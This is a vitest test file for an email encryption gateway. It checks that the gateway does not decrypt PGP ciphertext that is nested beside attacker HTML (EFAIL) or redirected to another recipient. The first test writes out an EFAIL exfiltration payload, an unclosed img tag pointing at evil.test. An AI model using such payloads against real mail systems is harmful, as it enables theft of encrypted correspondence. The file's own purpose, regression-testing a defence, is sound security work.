import { describe, expect, it } from 'vitest';
import { gatewayWithSmarthost } from '../helpers/attack-rig.ts';
import { e2eParties, pgpProtect, plainMessage, resultFields, sendInbound, type E2eParties } from '../helpers/e2e-inbound.ts';

/*
 * Issue 11, EFAIL and key misuse: what an attacker who captured ciphertext for bob can make
 * the gateway do with bob's key.
 * - Nested: bob's ciphertext as one part of a multipart/mixed beside attacker HTML (EFAIL
 *   direct exfiltration needs the decrypted text spliced next to it): never decrypted.
 * - Redirected: the same ciphertext sent to carol, or to carol and bob in one transaction
 *   (both users of ours with keys): decrypting would show bob's mail to carol, so it is
 *   stored as it came, and the field says why.
 */
describe('i11-02 nested and redirected ciphertext', () => {
  let parties: E2eParties;
  const rig = gatewayWithSmarthost({
    prefix: 'i11-02',
    setup: async (gateway) => {
      parties = await e2eParties(gateway, ['bob@corp.test', 'carol@corp.test'], 'alice@sender.test', rig.temp.dir);
    },
  });
  const sealedForBob = () => pgpProtect(plainMessage('alice@sender.test', 'bob@corp.test', 'for bob', 'only bob may read this'), { encryptTo: [{ address: 'bob@corp.test', data: parties.userPublic('bob@corp.test') }] });

  it('leaves an encrypted part nested in a cleartext multipart encrypted', async () => {
    const sealed = (await sealedForBob()).toString('latin1');
    const ciphertextPart = sealed.slice(sealed.indexOf('Content-Type: multipart/encrypted'));
    const message = ['From: alice@sender.test', 'To: bob@corp.test', 'Subject: nested', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="outer"', '',
      '--outer', 'Content-Type: text/html', '', '<img src="http://evil.test/?', '--outer', ciphertextPart, '--outer', 'Content-Type: text/html', '', '">', '--outer--', ''].join('\r\n');
    expect(await sendInbound(rig.gateway.ports.inbound, 'alice@sender.test', ['bob@corp.test'], Buffer.from(message, 'latin1'))).toMatch(/^250/);
    await rig.rx.until(1, 15_000);
    const data = rig.rx.transactions()[0].data.toString('latin1');
    expect(data).toContain('-----BEGIN PGP MESSAGE-----');
    expect(data).not.toContain('only bob may read this');
    expect(resultFields(rig.rx.transactions()[0].data)).toEqual([]);
  });

  it('does not open bob\'s ciphertext for carol, alone or beside bob', async () => {
    const sealed = await sealedForBob();
    for (const [i, recipients] of [['carol@corp.test'], ['carol@corp.test', 'bob@corp.test']].entries()) {
      expect(await sendInbound(rig.gateway.ports.inbound, 'alice@sender.test', recipients, sealed)).toMatch(/^250/);
      await rig.rx.until(2 + i, 15_000);
      const copy = rig.rx.transactions()[1 + i].data;
      expect(copy.toString('latin1')).not.toContain('only bob may read this');
      const [field] = resultFields(copy);
      expect(field).toMatch(/decrypted=no; not-decrypted="carol@corp\.test: /);
    }
  });
});
